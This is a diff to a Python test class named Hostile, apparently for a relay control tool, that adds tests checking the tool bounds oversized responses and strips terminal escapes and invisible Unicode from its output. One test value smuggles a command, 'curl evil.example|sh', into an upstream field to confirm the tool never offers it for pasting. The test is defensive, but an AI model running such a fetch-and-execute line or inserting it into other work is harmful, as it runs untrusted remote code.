@@ -707,6 +707,19 @@ class Hostile(CtlTest):
         self.endless(b'\r\n[{"a": "', b'x')
         self.check_bounded('too large', 'dump')
 
+    def test_endless_sessions(self):
+        """Kept as they came: but not all that anybody can send."""
+        self.endless(b'\r\n[{"a": 1}', b',{"a": "' + b'x' * 16000 + b'"}')
+        self.check_bounded("larger than any relay's", 'sessions', '--json=short')
+
+    def test_nothing_of_a_stranger_s_is_to_be_pasted(self):
+        name = {'name': 'relay', 'upstream': 'x`; curl evil.example|sh; `:1', 'upstream_address': None,
+                'resolve_error': 'Name or service not known'}
+        self.serve(http(json.dumps({'names': [name], 'listeners': []})))
+        done = subprocess.run([CTL, f'--socket={self.socket}', 'check'], env=self.env, capture_output=True, text=True,
+                              timeout=20, check=False)
+        self.assertIn('`getent ahostsv6 NAME`', done.stdout)
+
     def test_endless_headers(self):
         self.endless(b'', b'X-More: yes\r\n')
         self.check_bounded('endless headers', 'status', seconds=15)
@@ -758,7 +771,7 @@ class Hostile(CtlTest):
                     server.close()
 
     def test_nothing_reaches_the_terminal(self):
-        evil = 'a\x1b[31mb\tc\nd\x9be\u202ef\x7f'
+        evil = 'a\x1b[31mb\tc\nd\x9be\u202ef\x7f\u3164\u3000\U000e0041漢'
         session = {key: evil for key in ('session_id', 'listener', 'client_address', 'state', 'created',
                                          'upstream_local_address', 'upstream_remote_address')}
         name = {'name': evil, 'upstream': evil, 'upstream_address': evil, 'resolve_error': evil, 'listener': evil,
@@ -774,7 +787,7 @@ class Hostile(CtlTest):
                 done = subprocess.run([CTL, f'--socket={self.socket}', *command], env=self.env, capture_output=True,
                                       timeout=20, check=False)
                 text = (done.stdout + done.stderr).decode()
-                self.assertEqual(re.findall('[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]', text), [])
+                self.assertEqual(re.findall('[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e\u3000-\U000fffff]', text), [])
                 if command == ['dump']:
                     self.assertEqual({line.count('\t') for line in text.splitlines()}, {12})
         screen = self.screen('metrics', '--no-pager')
